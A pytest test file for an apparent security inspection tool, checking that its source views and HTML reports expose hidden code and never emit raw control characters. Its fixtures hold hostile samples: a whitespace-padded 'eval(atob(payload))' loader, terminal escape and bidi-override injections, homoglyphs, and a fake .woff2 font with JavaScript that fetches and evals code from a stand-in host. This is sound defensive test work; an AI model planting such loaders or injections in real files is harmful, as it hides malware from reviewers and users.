"""Source views: what a hostile file hides ends up visible, and nothing raw reaches the terminal or HTML."""

from __future__ import annotations

import dataclasses
import re
import unicodedata
from pathlib import Path

import pytest

from inspector.model import Category, Engine, Finding, MarkKind, Severity, SourceView
from inspector.report import ReportFormat, render
from inspector.report.html import source_block
from inspector.report.source import render_source, render_tree
from inspector.static.source import (
    BLANK_LINES_RUN,
    LINE_CHARS,
    excerpts,
    make_line,
    read_bounded,
    source_view,
)
from tests.report.report_fixtures import build_report

# Our own colours: SGR sequences only. Anything else starting with ESC would be the file's.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
LOADER = "eval(atob(payload))"


def assert_terminal_safe(text: str) -> None:
    """No control byte but newline, no ESC except our SGR colours, no invisible or reordering character."""
    plain = _SGR.sub("", text)
    bad = [ch for ch in plain if ch != "\n" and (unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Co", "Cn"))]
    assert not bad, [f"U+{ord(ch):04X}" for ch in bad[:10]]
    assert not re.search("[\ufe00-\ufe0f\U000e0100-\U000e01ef\u3164\u115f\u1160]", plain)


def finding(path: str, line: int, column: int | None = None, severity: Severity = Severity.CRITICAL) -> Finding:
    return Finding(
        id=f"id-{path}-{line}",
        rule="hidden-code.whitespace-padding",
        severity=severity,
        category=Category.HIDDEN_CODE,
        path=path,
        line=line,
        column=column,
        message="code hidden after blank space",
        evidence="",
        engines=(Engine.TEXT,),
    )


HOSTILE_LINES = [
    "// title \x1b]0;owned\x07 colour \x1b[31mred\x1b[0m clear \x1b[2J\x1b[H bell \x07 nul \x00 c1 \x9b31m",
    "const access = 'user\u202e \u2066// admin only\u2069 \u2066';",
    "let isАdmin = true; // Cyrillic A" + "\u200b\u200d\ufeff",
    " " * 5000 + LOADER,
    "x" * 100_000 + "TAIL" + LOADER,
    "carriage\rreturn overwrite \u2028 line separator",
    "vs payload" + "".join(chr(0xFE00 + i % 16) for i in range(300)) + "end",
]


def hostile_file(tmp_path: Path) -> Path:
    text = "\n".join(HOSTILE_LINES[:4]) + "\n" * (BLANK_LINES_RUN + 200) + "\n".join(HOSTILE_LINES[4:]) + "\n"
    path = tmp_path / "hostile.js"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("color", [False, True])
def test_hostile_file_shows_everything_and_emits_nothing_raw(tmp_path, color):
    path = hostile_file(tmp_path)
    data, size = read_bounded(tmp_path, "hostile.js")
    long_line = 5 + BLANK_LINES_RUN + 199
    findings = [finding("hostile.js", 4, 5001), finding("hostile.js", long_line, 100_005)]
    view = source_view("hostile.js", data, size, findings)
    rendered = render_source(view, findings, width=80, color=color)
    assert_terminal_safe(rendered.text)
    plain = re.sub(r"\s", "", _SGR.sub("", rendered.text))
    assert "[5000spaces]" + LOADER in plain  # the marker, then what it pushed off-screen
    assert "TAIL" + LOADER in plain  # the finding's column of a 100,000-character line is in the window
    assert "<U+202ERIGHT-TO-LEFTOVERRIDE>" in plain
    assert "<U+001BESCAPE>]0;owned<U+0007BELL>" in plain
    assert "<U+200BZEROWIDTHSPACE>" in plain or "3invisiblecharacters" in plain
    assert "U+0410CYRILLICCAPITALLETTERA,lookslikeA" in plain
    assert f"[{BLANK_LINES_RUN + 200 - 1}blanklines]" in plain or f"[{BLANK_LINES_RUN + 200}blanklines]" in plain
    assert "300invisiblecharacters" in plain or "x300" in plain
    assert "<U+000DCARRIAGERETURN>" in plain and "<U+2028LINESEPARATOR>" in plain
    assert path.stat().st_size > 100_000
    assert max(len(line.text) for line in view.lines) <= LINE_CHARS


def test_every_line_is_short_and_printable(tmp_path):
    hostile_file(tmp_path)
    data, size = read_bounded(tmp_path, "hostile.js")
    view = source_view("hostile.js", data, size)
    for line in view.lines:
        assert line.text.isprintable(), line.number
        assert len(line.text) <= LINE_CHARS
        for mark in line.marks:
            assert 0 <= mark.column <= len(line.text) and mark.column + mark.length <= len(line.text)


def test_blank_run_is_one_space_with_a_mark():
    line = make_line(17, "module.exports = {};" + " " * 412 + "fetch(u)", focus_column=433)
    assert line.text == "module.exports = {}; fetch(u)"
    (mark,) = line.marks
    assert (mark.column, mark.length, mark.kind, mark.label) == (20, 1, MarkKind.BLANKS, "412 spaces")


def test_short_indentation_and_tabs_stay_plain():
    line = make_line(1, "\t\tif (x) {    y(); }")
    assert line.text == "        if (x) {    y(); }" and line.marks == ()


def test_homoglyph_only_inside_latin_words():
    assert make_line(1, "// Привет, мир").marks == ()
    (mark,) = make_line(1, "if (isАdmin) {}").marks
    assert mark.kind is MarkKind.HOMOGLYPH and mark.label.startswith("U+0410 CYRILLIC CAPITAL LETTER A")


def test_binary_file_is_a_hex_dump(tmp_path):
    blob = bytes(range(256)) * 64 + b"\x1b]0;owned\x07"
    (tmp_path / "logo.png").write_bytes(blob)
    data, size = read_bounded(tmp_path, "logo.png")
    view = source_view("logo.png", data, size)
    assert view.language == "binary" and "hex" in view.note
    assert view.lines[0].text.startswith("00000000  00 01 02 03")
    assert_terminal_safe(render_source(view, width=100, color=True).text)
    assert_terminal_safe(str(source_block(view, finding("logo.png", 1), "f1", True)))


def test_disguised_font_is_shown_as_javascript(tmp_path):
    fonts = tmp_path / "public" / "fonts"
    fonts.mkdir(parents=True)
    (fonts / "fa-brands-400.woff2").write_text(
        "const h=require('https');\nh.get('https://fonts.lure.test/f',r=>{let d='';r.on('data',c=>d+=c);"
        "r.on('end',()=>eval(d))});\nmodule.exports = {};\n"
    )
    data, size = read_bounded(tmp_path, "public/fonts/fa-brands-400.woff2")
    view = source_view("public/fonts/fa-brands-400.woff2", data, size)
    assert view.language == "javascript"
    assert view.shown_as == "javascript, although the name says .woff2"
    assert "shown as javascript" in render_source(view).text


def test_reads_never_follow_links_or_open_devices(tmp_path):
    (tmp_path / "outside").write_text("secret")
    root = tmp_path / "repo"
    root.mkdir()
    (root / "link.js").symlink_to(tmp_path / "outside")
    with pytest.raises(PermissionError):
        read_bounded(root, "link.js")
    with pytest.raises(PermissionError):
        read_bounded(root, "../outside")
    import os

    os.mkfifo(root / "fifo")
    with pytest.raises(PermissionError):
        read_bounded(root, "fifo")


def test_excerpts_are_cut_around_findings_and_shared(tmp_path):
    lines = [f"line {n}" for n in range(1, 201)]
    lines[99] = "x = 1;" + " " * 300 + LOADER
    (tmp_path / "a.js").write_text("\n".join(lines) + "\n")
    findings = [finding("a.js", 100, 307), finding("a.js", 104, None, Severity.LOW), finding("gone.js", 3)]
    (view,) = excerpts(tmp_path, findings)
    assert (view.first_line, view.last_line, view.total_lines) == (92, 116, 200)
    assert set(view.findings) == {"id-a.js-100", "id-a.js-104"}
    html = str(source_block(view, findings[0], "f1", True))
    assert '<span class="hidden-run">[300 spaces]</span>' in html
    assert 'class="ln hit" id="f1-L100"' in html
    assert "atob" in html and "payload" in html


def test_html_source_block_escapes_and_marks(tmp_path):
    hostile_file(tmp_path)
    data, size = read_bounded(tmp_path, "hostile.js")
    view = source_view("hostile.js", data, size)
    html = str(source_block(view, finding("hostile.js", 2), "f2", False))
    assert_terminal_safe(html)
    assert "<script" not in html and "&lt;U+202E RIGHT-TO-LEFT OVERRIDE&gt;" in html
    assert '<span class="hidden-run">[5000 spaces]</span>' in html
    assert '<span class="glyph">А</span>' in html


def test_tree_counts_findings_per_file_and_directory():
    findings = [finding("src/a.js", 1), finding("src/a.js", 2, severity=Severity.LOW), finding("b\x1b[2J.js", 1)]
    text = render_tree("lure", ["src/a.js", "src/c.js", "README.md"], findings)
    assert_terminal_safe(text)
    assert "a.js  2 findings (critical)" in text and "src/  2" in text
    assert "b\\x1b[2J.js" in text and "id-src/a.js-1" in text


def test_view_round_trips_through_json(tmp_path):
    from inspector.model import from_dict, to_dict

    hostile_file(tmp_path)
    data, size = read_bounded(tmp_path, "hostile.js")
    view = source_view("hostile.js", data, size)
    assert from_dict(SourceView, to_dict(view)) == view


def test_html_never_cuts_a_long_message():
    report = build_report()
    tail = "".join(f" step-{n}" for n in range(400))  # about 3,500 characters, no word repeated
    long = dataclasses.replace(report.findings[0], message="the loader" + tail + " END-OF-MESSAGE")
    html = render(dataclasses.replace(report, findings=(long, *report.findings[1:])), ReportFormat.HTML)
    assert '<details class="long">' in html and "more characters" not in html
    assert "step-0 " in html and "step-399 END-OF-MESSAGE" in html
